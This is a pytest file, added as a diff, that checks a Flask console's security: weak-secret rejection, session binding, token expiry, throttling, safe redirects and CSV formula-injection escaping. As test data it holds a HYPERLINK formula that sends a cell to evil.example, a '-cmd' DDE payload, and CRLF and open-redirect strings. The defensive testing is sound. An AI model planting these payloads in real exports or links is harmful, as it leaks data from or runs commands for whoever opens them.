@@ -1,0 +1,256 @@
+"""Console security (issue 11, points 3-7), through the real Flask app on a seeded dataset:
+secrets, session binding and sign-out, token expiry, the Secure cookie, sign-in throttling,
+internal-only redirects and CSV formula injection."""
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import os
+import re
+import subprocess
+import sys
+from datetime import timedelta
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from ascolto import config as config_mod
+from ascolto.secret_policy import WeakSecret
+from registry import connect, ops, session_scope
+from registry.models import Token, utcnow
+from tests.console_auth import token as new_token
+from tests.console_data import build
+from warehouse import export
+from warehouse.console import create_app
+from warehouse.csvsafe import safe_cell
+
+ROOT = Path(__file__).resolve().parents[1]
+STRONG = "9b1f3c7e2a5d4086b7c1e9f2a3d5b8c6"  # 32 random-looking bytes
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+
+
+@pytest.fixture(scope="module")
+def seeded(tmp_path_factory):
+    settings, tokens = build(tmp_path_factory.mktemp("console-sec"))
+    with session_scope(connect(settings.database_url)) as s:  # an entity name a spreadsheet would run
+        ops.update_entity(s, "c_h501", name=EVIL, actor="test")
+    return settings, tokens
+
+
+@pytest.fixture(scope="module")
+def app(seeded):
+    return create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="10000/minute"))
+
+
+def _csrf(html: str) -> str:
+    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
+
+
+def _login(client, secret: str, next_: str | None = None, remote: str = "127.0.0.1"):
+    page = client.get("/login").get_data(as_text=True)
+    url = "/login" if next_ is None else "/login?" + next_
+    return client.post(url, data={"token": secret, "csrf_token": _csrf(page)}, environ_base={"REMOTE_ADDR": remote})
+
+
+def _token_id(settings, secret: str) -> int:
+    with session_scope(connect(settings.database_url)) as s:
+        return s.query(Token).filter_by(prefix=secret.split("_")[1]).one().id
+
+
+# --- 3. secrets ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("value", ["change-me", "CHANGE-ME", "changeme", "secret", "x" * 31,
+                                   "change-me-please-to-a-long-random-value", "s" * 40,
+                                   "your_secret_here_0123456789abcdef"])
+def test_a_short_or_placeholder_secret_refuses_to_start(seeded, value):
+    with pytest.raises(WeakSecret, match="ASCOLTO_CONSOLE_SECRET"):
+        create_app(seeded[0].with_(console_secret=value))
+    from collector.app import create_app as collector_app
+    with pytest.raises(WeakSecret, match="ASCOLTO_FORM_SECRET"):
+        collector_app(seeded[0].with_(form_secret=value))
+
+
+def test_a_strong_secret_is_used_and_an_unset_one_is_random_and_kept(seeded):
+    assert create_app(seeded[0].with_(console_secret=STRONG)).config["SECRET_KEY"] == STRONG
+    kept = create_app(seeded[0]).config["SECRET_KEY"]
+    assert len(kept) == 64 and create_app(seeded[0]).config["SECRET_KEY"] == kept
+
+
+@pytest.mark.parametrize("command, variable", [("console", "ASCOLTO_CONSOLE_SECRET"),
+                                               ("collector", "ASCOLTO_FORM_SECRET")])
+def test_the_servers_exit_non_zero_with_a_clear_message_on_a_placeholder(tmp_path, command, variable):
+    env = dict(os.environ, PYTHONPATH=str(ROOT), ASCOLTO_DATA_DIR=str(tmp_path), **{variable: "change-me"})
+    done = subprocess.run([sys.executable, "-m", "ascolto.cli", command], env=env, capture_output=True, text=True,
+                          timeout=60)
+    assert done.returncode == 2
+    assert f"{variable} is shorter than 32 bytes: refusing to start" in done.stderr
+
+
+def test_a_forged_session_naming_a_token_id_gets_nothing(app, seeded):
+    """Whoever knows the cookie secret can sign any cookie; without the token's binding it is useless."""
+    admin_id = _token_id(seeded[0], seeded[1]["admin"])
+    signer = app.session_interface.get_signing_serializer(app)
+    for forged in ({"tid": admin_id}, {"tid": admin_id, "bind": "0" * 64}):
+        c = app.test_client()
+        c.set_cookie("ascolto_console", signer.dumps(forged))
+        assert c.get("/admin/tokens").status_code == 401
+        assert c.get("/api/v1/meta").status_code == 401
+
+
+# --- 5. sign-out, expiry, Secure cookie ---------------------------------------------------------------
+
+def test_a_saved_cookie_gets_401_after_sign_out(app, seeded):
+    secret = new_token(seeded[0], "monitoring", "sign-out test")
+    c = app.test_client()
+    assert _login(c, secret).status_code == 303
+    saved = c.get_cookie("ascolto_console").value
+    other = app.test_client()  # the same token signed in elsewhere
+    assert _login(other, secret).status_code == 303 and other.get("/").status_code == 200
+    html = c.get("/").get_data(as_text=True)
+    assert c.post("/logout", data={"csrf_token": _csrf(html)}).status_code == 303
+    replay = app.test_client()
+    replay.set_cookie("ascolto_console", saved)
+    assert replay.get("/").status_code == 401
+    assert replay.get("/api/v1/meta").status_code == 401
+    assert other.get("/").status_code == 401  # a sign-out ends every session of the token
+    assert _login(app.test_client(), secret).status_code == 303  # the token itself still works
+
+
+def test_an_expired_token_stops_working_everywhere(app, seeded):
+    with session_scope(connect(seeded[0].database_url)) as s:
+        from registry.tokens import create_token
+        tok, secret = create_token(s, role="admin", label="expiring", actor="test", expires="1h")
+        tid = tok.id
+    c = app.test_client()
+    assert _login(c, secret).status_code == 303 and c.get("/").status_code == 200
+    page = c.get("/admin/tokens").get_data(as_text=True)
+    row = re.search(rf'<tr data-token="{secret.split("_")[1]}">.*?</tr>', page, re.S).group(0)
+    assert re.search(r'data-expires="\d{4}-\d\d-\d\dT', row)
+    with session_scope(connect(seeded[0].database_url)) as s:  # time passes
+        s.get(Token, tid).expires_at = utcnow() - timedelta(seconds=1)
+    assert c.get("/").status_code == 401
+    assert app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {secret}"}).status_code == 401
+    assert _login(app.test_client(), secret).status_code == 401
+
+
+def test_admins_create_expiring_tokens_and_see_the_expiry(app, seeded):
+    c = app.test_client()
+    _login(c, seeded[1]["admin"])
+    html = c.get("/admin/tokens").get_data(as_text=True)
+    r = c.post("/admin/tokens", data={"role": "monitoring", "label": "due to expire", "expires": "2099-01-31",
+                                      "csrf_token": _csrf(html)})
+    page = r.get_data(as_text=True)
+    assert 'data-expires="2099-02-01T00:00:00+00:00"' in page and ">mai<" in page
+    r = c.post("/admin/tokens", data={"role": "monitoring", "label": "bad expiry", "expires": "yesterday",
+                                      "csrf_token": _csrf(page)}, follow_redirects=True)
+    assert "bad expiry" not in r.get_data(as_text=True).split("<tbody>")[1]
+
+
+def test_the_session_cookie_is_secure_by_default_outside_the_local_stack():
+    assert config_mod.load({}).console_secure_cookie is True
+    assert config_mod.load({"ASCOLTO_CONSOLE_SECURE_COOKIE": "0"}).console_secure_cookie is False
+    assert config_mod.Settings().console_secure_cookie is True
+    up = (ROOT / "deploy" / "up.py").read_text()
+    assert 'env.setdefault("ASCOLTO_CONSOLE_SECURE_COOKIE", "0")' in up  # only `ascolto up` (http://127.0.0.1)
+
+
+# --- 6. throttling --------------------------------------------------------------------------------
+
+def test_failed_sign_ins_are_throttled_per_client_with_retry_after_and_logged(seeded, caplog):
+    app = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute"))
+    wrong = "asc_" + seeded[1]["monitoring"].split("_")[1] + "_" + "A" * 43  # a real prefix, a wrong secret
+    caplog.set_level(logging.WARNING, logger="ascolto.console")
+    c = app.test_client()
+    statuses = [_login(c, f"asc_bad{i}", remote="203.0.113.5").status_code for i in range(3)]
+    assert statuses == [401, 401, 401]
+    r = _login(c, seeded[1]["statistician"], remote="203.0.113.5")  # even a good token: the client must wait
+    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
+    assert "Troppi tentativi" in r.get_data(as_text=True)
+    assert _login(app.test_client(), seeded[1]["statistician"], remote="198.51.100.1").status_code == 303
+    r = app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {wrong}"},
+                              environ_base={"REMOTE_ADDR": "203.0.113.5"})
+    assert r.status_code == 429 and r.headers["Retry-After"] and set(r.get_json()) == {"error", "message", "fields"}
+    log = caplog.text
+    assert "console sign-in failed: token prefix -, client 203.0.113.5, via form" in log
+    assert "throttled" in log
+    assert "asc_bad" not in log and "A" * 43 not in log
+
+
+def test_failed_sign_ins_are_throttled_per_token_prefix_across_clients(seeded, caplog):
+    app = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute"))
+    prefix = seeded[1]["admin"].split("_")[1]
+    wrong = f"asc_{prefix}_" + "B" * 43
+    caplog.set_level(logging.WARNING, logger="ascolto.console")
+    statuses = [app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {wrong}"},
+                                      environ_base={"REMOTE_ADDR": f"198.51.100.{i}"}).status_code for i in range(5)]
+    assert statuses == [401, 401, 401, 429, 429]
+    assert f"token prefix {prefix}" in caplog.text and "B" * 43 not in caplog.text
+    assert _login(app.test_client(), seeded[1]["monitoring"], remote="198.51.100.9").status_code == 303
+
+
+# --- 4. redirects -----------------------------------------------------------------------------------
+
+HOSTILE_NEXT = ["/\t/evil.example", "/%09/evil.example", "/\r\n/evil.example", "%0D%0ALocation:%20http://evil.example",
+                "/%0D%0ASet-Cookie:%20x=1", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example",
+                "https://evil.example/", "http:/evil.example", "javascript:alert(1)", " /regions", "/regions\x00",
+                "/\u2028/evil.example", "/ /evil.example", "evil.example"]
+
+
+@pytest.mark.parametrize("nxt", HOSTILE_NEXT)
+def test_redirects_go_only_to_internal_paths(app, seeded, nxt):
+    from urllib.parse import quote, unquote
+
+    for raw in (nxt, unquote(nxt)):
+        query = "next=" + quote(raw, safe="")
+        r = app.test_client().get("/lang/en?" + query)
+        assert r.status_code == 303 and r.headers["Location"] == "/", (raw, r.headers.get("Location"))
+        r = _login(app.test_client(), seeded[1]["monitoring"], query)
+        assert r.status_code == 303 and r.headers["Location"] == "/", (raw, r.headers.get("Location"))
+
+
+def test_internal_redirects_keep_their_path_and_query(app, seeded):
+    assert app.test_client().get("/lang/en?next=%2Fregions%3Fperiod%3D2026-10").headers["Location"] == \
+        "/regions?period=2026-10"
+    assert _login(app.test_client(), seeded[1]["monitoring"], "next=/quality").headers["Location"] == "/quality"
+
+
+# --- 7. CSV formula injection --------------------------------------------------------------------
+
+def test_chart_csv_neutralizes_formula_names(app, seeded):
+    c = app.test_client()
+    _login(c, seeded[1]["monitoring"])
+    r = c.get("/csv/service-type/anagrafe.certificati/funnel")
+    assert r.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(r.get_data(as_text=True))) for cell in row]
+    assert "'" + EVIL in cells and EVIL not in cells
+    assert not [x for x in cells if x[:1] in ("=", "+", "@", "\t", "\r")]
+    assert any(re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", x) for x in cells)  # numbers stay numbers
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Roma", "Roma"), ("", ""),
+    ("-0.25", "-0.25"), ("+3", "+3"), ("-1e-3", "-1e-3"), (-2.5, -2.5), (7, 7), (None, None),
+])
+def test_safe_cell(value, expected):
+    assert safe_cell(value) == expected
+
+
+def test_the_export_writers_neutralize_text_cells_and_keep_numbers():
+    row = {c: "x" for c in export.COLUMNS}
+    row.update({export.COLUMNS[0]: "=evil()", "OBS_VALUE": -1.5, "N_RESP": 12})
+    df = pd.DataFrame([row], columns=export.COLUMNS)
+    for writer in (export.write_csv, export.write_sdmx_csv):
+        buf = io.StringIO()
+        writer(df, buf)
+        cells = list(csv.reader(io.StringIO(buf.getvalue())))[1]
+        assert "'=evil()" in cells and "=evil()" not in cells and "-1.5" in cells and "12" in cells
+
+
+def test_every_csv_writer_of_the_warehouse_uses_the_one_helper():
+    for path in (ROOT / "warehouse").rglob("*.py"):
+        if path.name != "csvsafe.py":
+            text = path.read_text()
+            assert not re.search(r"csv\.(writer|DictWriter)\(", text), path
